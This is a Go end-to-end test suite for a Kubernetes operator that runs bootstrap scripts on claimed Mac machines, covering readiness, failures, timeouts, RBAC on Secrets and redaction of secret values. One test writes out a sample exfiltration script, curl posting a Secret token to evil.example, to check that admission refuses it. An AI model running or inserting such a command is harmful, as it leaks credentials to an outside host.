package tenancy_test

import (
	"context"
	"encoding/json"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	macvirtv1alpha1 "github.com/macvirt/macvirt/api/v1alpha1"
	"github.com/macvirt/macvirt/test/infrastructure/simulator"
)

// The value of a tenant's Secret that a bootstrap puts in its script's
// environment: it reaches the Mac and is found nowhere else.
const runnerToken = "ghs_bootstrapTokenValue4711" //nolint:gosec // a test value, not a credential.

// bootstrapClaim creates, as alice, a claim of the sample pool with
// bootstrap b.
func bootstrapClaim(name string, b *macvirtv1alpha1.Bootstrap) *macvirtv1alpha1.MacClaim {
	c := &macvirtv1alpha1.MacClaim{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "team-a"},
		Spec: macvirtv1alpha1.MacClaimSpec{PoolName: pool, Bootstrap: b}}
	Expect(as("alice").Create(context.Background(), c)).To(Succeed())
	DeferCleanup(func() { _ = admin.Delete(context.Background(), c) })
	return c
}

func script(s string) *macvirtv1alpha1.BootstrapScript {
	return &macvirtv1alpha1.BootstrapScript{Inline: s}
}

// bootstrapOf is BootstrapSucceeded and Ready of the claim, read as alice.
func bootstrapOf(c *macvirtv1alpha1.MacClaim) func(Gomega) (*metav1.Condition, *metav1.Condition) {
	return func(g Gomega) (*metav1.Condition, *metav1.Condition) {
		g.Expect(as("alice").Get(context.Background(), client.ObjectKeyFromObject(c), c)).To(Succeed())
		return meta.FindStatusCondition(c.Status.Conditions, macvirtv1alpha1.ConditionBootstrapSucceeded),
			meta.FindStatusCondition(c.Status.Conditions, macvirtv1alpha1.ConditionReady)
	}
}

// boot waits until the claim's BootstrapSucceeded has reason and returns
// the claim.
func boot(c *macvirtv1alpha1.MacClaim, reason string) *macvirtv1alpha1.MacClaim {
	GinkgoHelper()
	Eventually(func(g Gomega) {
		b, _ := bootstrapOf(c)(g)
		g.Expect(b).NotTo(BeNil())
		g.Expect(b.Reason).To(Equal(reason), "BootstrapSucceeded: %s", b.Message)
	}).Should(Succeed())
	return c
}

var _ = Describe("A claim's bootstrap", Ordered, func() {
	ctx := context.Background()

	BeforeAll(func() {
		By("team-a's admin lets the operator read the namespace's Secrets and ConfigMaps for bootstraps, as docs/bootstrap.md says")
		for _, obj := range shipped("bootstrap_source_reader_role.yaml") {
			_ = admin.Create(ctx, obj)
			Expect(admin.Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "macvirt-bootstrap", Namespace: "team-a"},
				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: obj.GetName()},
				Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Name: operatorSA, Namespace: "macvirt-system"}}})).To(Succeed())
		}
		Expect(as("alice").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "runner", Namespace: "team-a"},
			StringData: map[string]string{"token": runnerToken}})).To(Succeed())
		Expect(as("bob").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "runner", Namespace: "team-b"},
			StringData: map[string]string{"token": runnerToken}})).To(Succeed())
		By("alice may read team-a's ConfigMaps, as the built-in edit role would let her")
		Expect(admin.Create(ctx, &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "configmaps", Namespace: "team-a"},
			Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"configmaps"}, Verbs: []string{"get", "list", "watch"}}}})).To(Succeed())
		Expect(admin.Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "alice-configmaps", Namespace: "team-a"},
			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "configmaps"},
			Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "User", Name: "alice"}}})).To(Succeed())
		Eventually(func() bool {
			return allowed("alice", authorizationv1.ResourceAttributes{Namespace: "team-a", Verb: "get", Resource: "configmaps"}) &&
				allowed(operatorUser, authorizationv1.ResourceAttributes{Namespace: "team-a", Verb: "get", Resource: "secrets"})
		}).Should(BeTrue(), "the API server's RBAC cache learns of the bindings")
		Expect(admin.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "runner", Namespace: "team-a"},
			Data: map[string]string{"labels": "macos,arm64"}})).To(Succeed())
	})

	It("makes the claim Ready only after its script succeeded, with the output's tail in status", func() {
		c := bootstrapClaim("boots", &macvirtv1alpha1.Bootstrap{
			Script: script(`echo "registering with $RUNNER_TOKEN"; echo "labels: $(cat "$HOME/.runner/labels")"; sleep 1; echo registered`),
			Env:    []macvirtv1alpha1.BootstrapEnvVar{{Name: "RUNNER_TOKEN", SecretKeyRef: &macvirtv1alpha1.LocalKeyRef{Name: "runner", Key: "token"}}},
			Files: []macvirtv1alpha1.BootstrapFile{{Path: "/Users/admin/.runner/labels",
				ConfigMapKeyRef: &macvirtv1alpha1.LocalKeyRef{Name: "runner", Key: "labels"}}},
		})
		boot(c, macvirtv1alpha1.ReasonBootstrapSucceeded)
		Eventually(func(g Gomega) {
			_, ready := bootstrapOf(c)(g)
			g.Expect(ready.Status).To(Equal(metav1.ConditionTrue))
		}).Should(Succeed())
		Expect(c.Status.Bootstrap).To(HaveLen(1))
		part := c.Status.Bootstrap[0]
		Expect(part.State).To(Equal(macvirtv1alpha1.BootstrapSucceeded))
		Expect(part.ExitCode).To(HaveValue(BeEquivalentTo(0)))
		Expect(part.OutputTail).To(ContainSubstring("registering with ******"))
		Expect(part.OutputTail).To(ContainSubstring("labels: macos,arm64"))
		Expect(part.OutputTail).To(HaveSuffix("registered\n"))
		Expect(part.Duration.Duration).To(BeNumerically(">=", time.Second))
		finished := part.StartedAt.Add(part.Duration.Duration)
		Expect(c.Status.ReadyAt.Time).To(BeTemporally(">=", finished.Truncate(time.Second)), "Ready only once the script succeeded")
	})

	It("shows a failing script's exit status, keeps the claim from Ready and warns", func() {
		c := boot(bootstrapClaim("fails", &macvirtv1alpha1.Bootstrap{Script: script("echo about to fail >&2; exit 3")}),
			macvirtv1alpha1.ReasonBootstrapFailed)
		b, ready := bootstrapOf(c)(Default)
		Expect(b.Message).To(ContainSubstring("exited with status 3"))
		Expect(ready.Status).To(Equal(metav1.ConditionFalse))
		Expect(ready.Reason).To(Equal("BootstrapFailed"))
		Expect(c.Status.Phase).To(Equal(macvirtv1alpha1.ClaimBound))
		Expect(c.Status.Bootstrap[0].OutputTail).To(ContainSubstring("about to fail"))
		Eventually(func(g Gomega) []string {
			var list eventsv1.EventList
			g.Expect(admin.List(ctx, &list, client.InNamespace("team-a"))).To(Succeed())
			var reasons []string
			for _, e := range list.Items {
				if e.Regarding.Name == c.Name && e.Type == corev1.EventTypeWarning {
					reasons = append(reasons, e.Reason)
				}
			}
			return reasons
		}).Should(ContainElement("BootstrapFailed"))
	})

	It("kills a script that outlives its timeout and says so", func() {
		c := boot(bootstrapClaim("hangs", &macvirtv1alpha1.Bootstrap{Script: script("echo waiting; sleep 300"), TimeoutSeconds: ptrTo[int32](1)}),
			macvirtv1alpha1.ReasonBootstrapTimedOut)
		_, ready := bootstrapOf(c)(Default)
		Expect(ready.Status).To(Equal(metav1.ConditionFalse))
		Expect(c.Status.Bootstrap[0].State).To(Equal(macvirtv1alpha1.BootstrapTimedOut))
		Expect(c.Status.Bootstrap[0].Message).To(ContainSubstring("timeout of 1s"))
	})

	It("runs a task once when the agent restarts while it runs", func() {
		c := bootstrapClaim("restarts", &macvirtv1alpha1.Bootstrap{
			Script: script(`echo run >> "$HOME/runs"; sleep 6; echo "runs: $(grep -c run "$HOME/runs")"`)})
		boot(c, macvirtv1alpha1.ReasonBootstrapRunning)
		m := machineOf(c)
		fault := simulator.Fault{Kind: simulator.GuestAgentRestart, Namespace: m.Namespace, Name: m.Name}
		system.Simulator.Inject(fault)
		time.Sleep(time.Second)
		system.Simulator.Clear(fault)
		boot(c, macvirtv1alpha1.ReasonBootstrapSucceeded)
		Expect(c.Status.Bootstrap[0].OutputTail).To(ContainSubstring("runs: 1\n"))
		Expect(c.Status.Bootstrap[0].OutputTail).NotTo(ContainSubstring("runs: 2"))
	})

	It("says AgentTooOld on a Mac whose agent speaks protocol v1", func() {
		var machines macvirtv1alpha1.MacMachineList
		Expect(admin.List(ctx, &machines, client.InNamespace("macvirt-pools"))).To(Succeed())
		for _, m := range machines.Items {
			f := simulator.Fault{Kind: simulator.GuestAgentV1, Namespace: m.Namespace, Name: m.Name}
			system.Simulator.Inject(f)
			DeferCleanup(system.Simulator.Clear, f)
		}
		c := bootstrapClaim("old-agent", &macvirtv1alpha1.Bootstrap{Script: script("true")})
		Eventually(func(g Gomega) {
			g.Expect(as("alice").Get(ctx, client.ObjectKeyFromObject(c), c)).To(Succeed())
			g.Expect(c.Status.MachineRef).NotTo(BeNil())
			f := simulator.Fault{Kind: simulator.GuestAgentV1, Namespace: c.Status.MachineRef.Namespace, Name: c.Status.MachineRef.Name}
			system.Simulator.Inject(f)
			DeferCleanup(system.Simulator.Clear, f)
		}).Should(Succeed())
		boot(c, macvirtv1alpha1.ReasonAgentTooOld)
		b, ready := bootstrapOf(c)(Default)
		Expect(b.Message).To(ContainSubstring("protocol v1"))
		Expect(ready.Reason).To(Equal(macvirtv1alpha1.ReasonAgentTooOld))
	})

	It("waits, saying why, in a namespace that did not let the operator read its Secrets", func() {
		c := &macvirtv1alpha1.MacClaim{ObjectMeta: metav1.ObjectMeta{Name: "ungranted", Namespace: "team-b"},
			Spec: macvirtv1alpha1.MacClaimSpec{PoolName: pool, Bootstrap: &macvirtv1alpha1.Bootstrap{Script: script("true"),
				Env: []macvirtv1alpha1.BootstrapEnvVar{{Name: "T", SecretKeyRef: &macvirtv1alpha1.LocalKeyRef{Name: "runner", Key: "token"}}}}}}
		Expect(as("bob").Create(ctx, c)).To(Succeed())
		DeferCleanup(func() { _ = admin.Delete(ctx, c) })
		Eventually(func(g Gomega) {
			g.Expect(as("bob").Get(ctx, client.ObjectKeyFromObject(c), c)).To(Succeed())
			b := meta.FindStatusCondition(c.Status.Conditions, macvirtv1alpha1.ConditionBootstrapSucceeded)
			g.Expect(b).NotTo(BeNil())
			g.Expect(b.Reason).To(Equal(macvirtv1alpha1.ReasonBootstrapSourceUnavailable))
			g.Expect(b.Message).To(ContainSubstring("RoleBinding in docs/bootstrap.md"))
		}).Should(Succeed())
	})

	It("refuses a claim naming a Secret its creator may not read, or root where the class does not allow it", func() {
		By("carol may claim Macs in team-a but not read its Secrets")
		for _, obj := range shipped("aggregated_claim_editor_role.yaml") {
			Expect(admin.Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "carol-claims", Namespace: "team-a"},
				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: obj.GetName()},
				Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "User", Name: "carol"}}})).To(Succeed())
		}
		stolen := &macvirtv1alpha1.MacClaim{ObjectMeta: metav1.ObjectMeta{Name: "stolen", Namespace: "team-a"},
			Spec: macvirtv1alpha1.MacClaimSpec{PoolName: pool, Bootstrap: &macvirtv1alpha1.Bootstrap{
				Script: script(`curl -d "$T" https://evil.example`),
				Env:    []macvirtv1alpha1.BootstrapEnvVar{{Name: "T", SecretKeyRef: &macvirtv1alpha1.LocalKeyRef{Name: "runner", Key: "token"}}}}}}
		Eventually(func() error { return as("carol").Create(ctx, stolen.DeepCopy()) }).Should(MatchError(ContainSubstring(
			`spec.bootstrap.env[0].secretKeyRef: Forbidden: carol may not get secret "runner" in namespace team-a`)))

		root := &macvirtv1alpha1.MacClaim{ObjectMeta: metav1.ObjectMeta{Name: "root", Namespace: "team-a"},
			Spec: macvirtv1alpha1.MacClaimSpec{PoolName: pool, Bootstrap: &macvirtv1alpha1.Bootstrap{User: "root", Script: script("id")}}}
		refused := as("alice").Create(ctx, root)
		Expect(refused).To(MatchError(ContainSubstring("spec.bootstrap.user: Forbidden")))
		Expect(refused).To(MatchError(ContainSubstring("allowRootBootstrap")))
	})

	It("keeps the Secret's value out of every status, event and log line", func() {
		var found []string
		search := func(what string, v any) {
			raw, err := json.Marshal(v)
			Expect(err).NotTo(HaveOccurred())
			if strings.Contains(string(raw), runnerToken) {
				found = append(found, what)
			}
		}
		var claims macvirtv1alpha1.MacClaimList
		Expect(admin.List(ctx, &claims)).To(Succeed())
		for _, c := range claims.Items {
			search("claim "+c.Name, c.Status)
		}
		var machines macvirtv1alpha1.MacMachineList
		Expect(admin.List(ctx, &machines)).To(Succeed())
		for _, m := range machines.Items {
			search("machine "+m.Name, m.Status)
		}
		var evs eventsv1.EventList
		Expect(admin.List(ctx, &evs)).To(Succeed())
		Expect(evs.Items).NotTo(BeEmpty())
		search("events", evs.Items)
		var core corev1.EventList
		Expect(admin.List(ctx, &core)).To(Succeed())
		search("core events", core.Items)
		Expect(logs.String()).To(ContainSubstring("Bootstrap"), "the operator's log was captured")
		if strings.Contains(logs.String(), runnerToken) {
			found = append(found, "the log")
		}
		Expect(found).To(BeEmpty(), "the Secret's value shows in these")
	})
})
